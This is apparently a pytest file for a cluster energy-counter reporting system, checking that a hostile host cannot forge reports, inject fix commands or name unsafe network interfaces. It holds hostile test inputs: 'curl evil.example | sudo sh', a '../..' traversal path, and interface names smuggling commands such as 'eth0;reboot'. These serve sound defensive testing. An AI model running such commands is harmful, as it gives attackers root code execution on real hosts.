"""Reports of the counters of hosts, of which one may be hostile."""

from __future__ import annotations

from types import SimpleNamespace
from typing import Any, cast

import pytest

from experiments.common.counter_fixes import OPEN_RAPL, RAPL_GUIDE
from workers.errors import ClusterUnavailable
from workers.launchers import Session
from workers.launchers.remote import RemoteSession
from workers.trial.counters import counter_metrics


class Reporting:
    """An agent that answers with these sources; none of a real host would."""

    def __init__(self, sources: Any) -> None:
        self.sources = sources

    def ask(self, _verb: str, **_message: Any) -> tuple[dict[str, Any], bytes]:
        return {"is_done": True, "sources": self.sources}, b""


def report(joules: float) -> dict[str, Any]:
    row = {"name": "package-0", "total": "package_j", "device": "0", "seconds": 1.0, "peak": 0.0, "limit": 0.0}
    return {"rapl": {"state": "ready", "title": "RAPL", "values": [{**row, "value": joules}]}}


def counted_of(**sources: Any) -> dict[str, Any]:
    agents = {host: Reporting(of_host) for host, of_host in sources.items()}
    session = SimpleNamespace(hosts=tuple(agents), remote_agents=agents, _counting_agents=agents)
    return Session.end_counters(cast(Session, session))


@pytest.mark.parametrize("sources", [{"b": {"rapl": 5}}, {}, None, {"c": report(1.0)}])
def test_a_host_without_a_valid_report_makes_sums_absent(sources: Any) -> None:
    counted = counted_of(a={"a": report(3.0)}, b=sources)
    assert set(counted) == {"a", "b"}
    metrics = counter_metrics(counted, elapsed_s=1.0, rate=None, tables=None, usages=())
    assert "energy_package_j" not in metrics.values
    assert metrics.absent["energy_package_j"].endswith("1 of 2 hosts: the host gave no valid report")


def test_a_host_reports_for_itself_alone() -> None:
    assert counted_of(a={"a": report(3.0)}, b={"a": report(9.0), "b": report(4.0)}) == {
        "a": report(3.0),
        "b": report(4.0),
    }


def test_two_hosts_of_one_name_have_no_sums() -> None:
    """The energy of one host would be shown as that of both."""
    agents = {"a": SimpleNamespace(name="n1"), "b": SimpleNamespace(name="n1")}
    session = SimpleNamespace(hosts=("a", "b"), remote_agents=agents)
    assert Session._counting_agents.fget(cast(Session, session)) == {}  # type: ignore[attr-defined]
    agents["b"].name = "n2"
    assert set(Session._counting_agents.fget(cast(Session, session))) == {"n1", "n2"}  # type: ignore[attr-defined]


def test_a_host_chooses_no_command_and_no_guide() -> None:
    """Pages and checks show both, the command with the words "as root on each host"."""
    forged = {"state": "absent", "title": "RAPL", "reason": "readable by root only"}
    counted = counted_of(
        a={"a": {"rapl": {**forged, "fix": "curl evil.example | sudo sh", "guide": "../.."}}},
        b={"b": {"rapl": {**forged, "fix": OPEN_RAPL, "guide": RAPL_GUIDE}}},
    )
    assert counted["a"]["rapl"] == {**forged, "fix": "", "guide": ""}
    assert counted["b"]["rapl"] == {**forged, "fix": OPEN_RAPL, "guide": RAPL_GUIDE}


@pytest.mark.parametrize("device", ["eth0;reboot", "-w", "../x", "|cat", "TCP@evil.example:1", "x" * 16])
def test_the_first_host_names_a_network_interface(device: str) -> None:
    """Programs of the other hosts get the name, and commands that pages suggest."""

    def choose(route: str) -> str:
        first = SimpleNamespace(output=lambda argv: "10.0.0.2" if argv[0] == "getent" else route)
        return RemoteSession._find_interface(cast(RemoteSession, SimpleNamespace(hosts=("n1", "n2"), first=first)))

    assert choose("10.0.0.2 dev bond0.17 src 10.0.0.1") == "bond0.17"
    with pytest.raises(ClusterUnavailable, match="interface"):
        choose(f"10.0.0.2 dev {device} src 10.0.0.1")
